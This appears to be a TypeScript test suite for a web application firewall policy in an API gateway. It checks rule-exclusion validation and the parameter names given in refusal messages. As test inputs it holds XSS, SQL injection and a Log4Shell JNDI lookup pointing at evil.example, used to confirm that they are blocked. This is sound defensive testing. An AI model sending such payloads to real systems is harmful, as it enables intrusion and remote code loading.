import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import type { OperationShape } from '#enforcement';
import type { PolicyDocument } from '../../snapshot/document.ts';
import {
  compilePolicy,
  testExchange,
  testOperation,
  testVersion,
  testZone,
  type TestRequest,
} from '../../testing.ts';
import type { Refusal } from '../../refusal.ts';
import { policy as threatRules } from '../threat-rules/policy.ts';
import { policy } from './policy.ts';

const because = 'Editors of articles write HTML.';
const shape: OperationShape = {
  parameters: [
    {
      name: 'q',
      in: 'query',
      required: false,
      style: 'form',
      explode: true,
      allowReserved: false,
      schema: {},
    },
  ],
  bodies: [
    {
      mediaType: 'application/json',
      schema: {
        type: 'object',
        properties: {
          article: { type: 'object', properties: { html: { type: 'string' }, title: { type: 'string' } } },
          meta: { type: 'object', additionalProperties: true },
          items: { type: 'array', items: { type: 'object', properties: { note: { type: 'string' } } } },
        },
      },
    },
  ],
  bodyRequired: false,
  answers: [],
};
const rules: PolicyDocument = { id: 'att_rules', policy: 'threat-rules', options: {} };
const operation = { ...testOperation, method: 'POST', shape };
const version = { ...testVersion, policies: [rules], operations: [operation] };

const compile = (options: Record<string, unknown>, over: object = {}, mode: 'block' | 'report' = 'block') =>
  compilePolicy(
    policy,
    { because, ...options },
    {
      place: { attachment: { id: 'att_1', policy: policy.name, mode, options }, version, operation, ...over },
      dependencies: { proving: true },
    },
  );

suite('an exclusion is refused when it is published', () => {
  for (const [what, options, why] of [
    ['without a rule or a tag', {}, /name either a rule or a tag/],
    ['with both', { rule: 7707010, tag: 'attack-xss', parameter: { in: 'query', name: 'q' } }, /either/],
    ['of a rule that is not there', { rule: 7799999 }, /there is no rule 7799999 here/],
    ['of a rule that prepares', { rule: 7700010 }, /prepares or adds up/],
    [
      'of a tag that no rule has',
      { tag: 'attack-xs', parameter: { in: 'query', name: 'q' } },
      /no rule here has the tag/,
    ],
    [
      'of all rules with a tag, everywhere',
      { tag: 'gatehouse-api' },
      /one parameter with a name or a pointer/,
    ],
    [
      'of all rules with a tag, in all of the body',
      { tag: 'gatehouse-api', parameter: { in: 'body' } },
      /one parameter/,
    ],
    [
      'of a parameter without its name',
      { rule: 7707010, parameter: { in: 'query' } },
      /name the query parameter/,
    ],
    [
      'with a name and a pointer',
      { rule: 7707010, parameter: { in: 'body', name: 'a', pointer: '/a' } },
      /not both/,
    ],
    [
      'with a pointer into the query',
      { rule: 7707010, parameter: { in: 'query', pointer: '/a' } },
      /leads into a body/,
    ],
    [
      'with a name in the path',
      { rule: 7707010, parameter: { in: 'path', name: 'id' } },
      /the path as a whole/,
    ],
    [
      'of a query parameter that is mistyped',
      { rule: 7707010, parameter: { in: 'query', name: 'qq' } },
      /no query parameter "qq"; it has q/,
    ],
    [
      'of a member that is mistyped',
      { rule: 7707010, parameter: { in: 'body', pointer: '/article/htm' } },
      /no member \/article\/htm in a JSON body; it has/,
    ],
    [
      'of a member below a text',
      { rule: 7707010, parameter: { in: 'body', pointer: '/article/html/x' } },
      /no member/,
    ],
  ] as const)
    test(what, () => assert.throws(() => compile(options), why));

  test('in report mode', () =>
    assert.throws(() => compile({ rule: 7707010 }, {}, 'report'), /no report mode/));
});

test('what the contract names, leaves open or says nothing of can be excluded', () => {
  for (const pointer of ['/article/html', '/article', '/meta/free/deep', '/items/*/note', '/items/0/note'])
    compile({ rule: 7707010, parameter: { in: 'body', pointer } });
  compile({ rule: 7707010, parameter: { in: 'query', name: 'q' } });
  compile({ tag: 'attack-xss', parameter: { in: 'header', name: 'x-any' } });
  compile({ rule: 7707010, parameter: { in: 'query', name: 'any' } }, { operation: testOperation });
  compile({ rule: 1 }, { version: { ...version, policies: [] } });
});

function refused(
  exclusions: readonly object[],
  request: TestRequest,
  at: 'zone' | 'version' | 'operation',
): string | undefined {
  const attached = exclusions.map((options, i) => ({
    id: `att_${i}`,
    policy: policy.name,
    options: { because, ...options },
  }));
  const own = (level: typeof at): PolicyDocument[] => (level === at ? attached : []);
  const here = { ...operation, policies: own('operation') };
  const steps = compilePolicy(threatRules, {}, { place: { version, operation } });
  const verdict = steps.inspect?.(
    testExchange({
      zone: { ...testZone, policies: own('zone') },
      version: { ...version, policies: [rules, ...own('version')] },
      operation: here,
      ...request,
    }),
  );
  return (verdict as Refusal | undefined)?.reason;
}

const json = (value: unknown): TestRequest => {
  const body = Buffer.from(JSON.stringify(value));
  return { method: 'POST', headers: ['Content-Type', 'application/json'], body };
};
const script = '<script>alert(1)</script>';

suite('an exclusion at work', () => {
  const html = { tag: 'attack-xss', parameter: { in: 'body', pointer: '/article/html' } };
  for (const at of ['zone', 'version', 'operation'] as const)
    test(`at the ${at} takes back the false alarm and nothing else, wherever the rules are attached`, () => {
      assert.equal(refused([html], json({ article: { html: script } }), at), undefined);
      assert.match(
        refused([html], json({ article: { title: script } }), at) ?? '',
        /^rules? 7707\d{3} in ARGS/,
      );
      assert.match(
        refused([html], json({ article: { html: "1' or 1=1 --" } }), at) ?? '',
        /^rules? 7701\d{3}/,
      );
    });

  test('of another operation changes nothing here', () =>
    assert.notEqual(refused([], json({ article: { html: script } }), 'operation'), undefined));
});

suite('a refusal names the parameter where the contract does', () => {
  for (const [what, request, told] of [
    ['a member', json({ article: { html: script } }), '(body /article/html)'],
    ['an item of a list', json({ items: [{ note: script }] }), '(body /items/*/note)'],
    [
      'what is below a member with free names, by that member',
      json({ meta: { secret: script } }),
      '(body /meta)',
    ],
    ['a query parameter', { url: `/things/v1/things/1?q=${encodeURIComponent(script)}` }, '(query q)'],
    [
      'a usual header field',
      { headers: ['User-Agent', '${jndi:ldap://evil.example/a}'] },
      '(header user-agent)',
    ],
    ['the path', { url: '/things/v1/things/1%27%20or%201=1--' }, '(path)'],
  ] as const)
    test(what, () => assert.ok((refused([], request, 'zone') ?? '').includes(told)));

  for (const [what, request] of [
    ['a member that the contract does not know', json({ hunter2: script })],
    [
      'a query parameter that it does not know',
      { url: `/things/v1/things/1?hunter2=${encodeURIComponent(script)}` },
    ],
    ['a cookie that it does not know', { headers: ['Cookie', 'hunter2=<script>alert(1)</script>'] }],
  ] as const)
    test(`but never ${what}`, () => {
      const reason = refused([], request, 'zone') ?? '';
      assert.match(reason, /^rule/);
      assert.doesNotMatch(reason, /hunter2|\(/i);
    });

  test('but never a header field that it does not know', () => {
    const rules = 'SecRule REQUEST_HEADERS "@contains evil" "id:5,phase:1,deny"';
    const steps = compilePolicy(threatRules, { pack: false, rules }, { place: { version, operation } });
    const reasonFor = (name: string): string | undefined =>
      (steps.inspect?.(testExchange({ version, operation, headers: [name, 'evil'] })) as Refusal | undefined)
        ?.reason;
    assert.equal(reasonFor('X-Hunter2'), 'rule 5 in REQUEST_HEADERS');
    assert.equal(reasonFor('Referer'), 'rule 5 in REQUEST_HEADERS (header referer)');
  });
});
